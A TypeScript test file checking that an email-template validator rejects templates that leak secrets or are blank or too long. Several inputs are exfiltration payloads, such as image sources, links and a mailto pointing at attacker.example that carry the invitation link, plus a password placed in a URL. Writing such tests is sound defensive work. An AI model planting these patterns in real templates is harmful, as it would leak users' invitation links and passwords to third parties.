/** What keeps an organization's own wording from being published, beyond what keeps it from being a template (spec D5). */
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkPublication } from '../../src/templates/publication.ts'
import { exampleVariables } from '../../src/templates/purposes.ts'
import { compileTemplate, renderTemplate } from '../../src/templates/render.ts'

const SOUND = { subject: 'Join {{organization}}', text: '{{link}}', html: '<p>{{link}}</p>' }
const codesOf = (changes: Partial<typeof SOUND>) => checkPublication('invitation', { ...SOUND, ...changes }).map(({ code, part }) => `${code} ${part}`)

describe('the link of an invitation is refused where it would be told to somebody else:', () => {
  test.each([
    ['<img src="{{link}}">', ['template.secret_in_attribute html']],
    ['<img src="https://attacker.example/?{{link}}">', ['template.foreign_image html']],
    ['<p title="{{link}}">x</p>', ['template.secret_in_attribute html']],
    ['<a href="{{link}}?x">x</a>', ['template.secret_in_attribute html']],
    ['<a href="{{link}}{{#if supportName}}?x{{/if}}">x</a>', ['template.secret_in_attribute html']],
    ['<a href="https://attacker.example/?{{link}}">x</a>', ['template.foreign_link html']],
    ['<a href="mailto:attacker@attacker.example?body={{link}}">x</a>', ['template.secret_in_attribute html']],
    ["<img alt='<a href=\"{{link}}\">", ['template.secret_in_attribute html']],
    ['<table background="{{link}}"></table>', ['template.secret_in_attribute html']],
    ['https://attacker.example/?{{link}}', ['template.secret_in_address html']],
  ])('%s', (html, expected) => {
    expect(codesOf({ html: `<p>{{link}}</p>${html}` })).toEqual(expected)
  })

  test('in a text that mail programs make links in', () => {
    expect(codesOf({ text: 'https://attacker.example/?{{link}}' })).toEqual(['template.secret_in_address text'])
    expect(codesOf({ text: 'See https://acme.example/help or\n({{link}}).' })).toEqual([])
  })

  test('as the whole address of a link it is where it belongs', () => {
    expect(codesOf({ html: `<a class="b" href="{{link}}">Join</a><a href='{{link}}'>{{link}}</a><a href="https://acme.example/help">Help</a>` })).toEqual([])
  })
})

test('a password may not leave by the address of a link', () => {
  const source = { subject: 'x', text: '{{password}}', html: '<p>{{password}}</p><a href="{{loginUrl}}?p={{password}}">x</a>' }
  expect(checkPublication('credentials', source).map(({ code }) => code)).toEqual(['template.secret_in_attribute'])
})

test('a sound one has no problem', () => {
  expect(codesOf({})).toEqual([])
})

describe('the link of an invitation', () => {
  test.each([
    ['left out', 'Join us'],
    ['only with a support contact', 'x {{#if supportName}}{{link}}{{/if}}'],
    ['only without a support contact', 'x {{#unless supportName}}{{link}}{{/unless}}'],
    ['not with a support contact that has no e-mail address', 'x {{#if supportName}}{{#if supportEmail}}{{link}}{{/if}}{{else}}{{link}}{{/if}}'],
  ])('%s', (_, text) => {
    expect(codesOf({ text })).toEqual(['template.secret_missing text'])
  })

  test('in both branches is there', () => {
    expect(codesOf({ text: '{{#if supportName}}{{link}}{{else}}go to {{link}}{{/if}}' })).toEqual([])
  })

  test('at times in the subject', () => {
    expect(codesOf({ subject: 'Join {{#unless supportPhone}}{{link}}{{/unless}}' })).toEqual(['template.secret_in_subject subject'])
  })

  test('is in every mail made of what can be published, whoever is the support contact', () => {
    const pieces = ['{{link}}', '{{#if supportName}}', '{{#unless supportEmail}}', '{{else}}', '{{/if}}', '{{/unless}}', 'x', '{{expiresAt}}']
    const { supportName, supportEmail, supportPhone, ...always } = exampleVariables('invitation')
    let published = 0
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 8 }), fc.boolean(), fc.boolean(), (parts, named, reachable) => {
        const source = { ...SOUND, text: parts.join('') }
        if (checkPublication('invitation', source).length > 0) return
        const mail = renderTemplate(compileTemplate('invitation', source), { ...always, supportPhone, supportName: named ? supportName : null, supportEmail: reachable ? supportEmail : null })
        expect(mail.text).toContain(always.link)
        published++
      }),
      { numRuns: 2_000 },
    )
    expect(published).toBeGreaterThan(0)
  })
})

describe('a part that says nothing', () => {
  test.each([
    ['subject', '{{supportName}}'],
    ['text', ' \n'],
    ['html', '<style>p { color: red }</style><!-- words --><p>&nbsp;</p>'],
  ] as const)('%s', (part, source) => {
    expect(codesOf({ [part]: source })).toContain(`template.blank ${part}`)
  })
})

test('a part that is too long is not even read', () => {
  expect(codesOf({ html: '{{'.repeat(100_001) })).toEqual(['template.too_long html'])
})

test('a mail with no secret needs none', () => {
  expect(checkPublication('welcome', { subject: 'x', text: 'x', html: 'x' })).toEqual([])
})
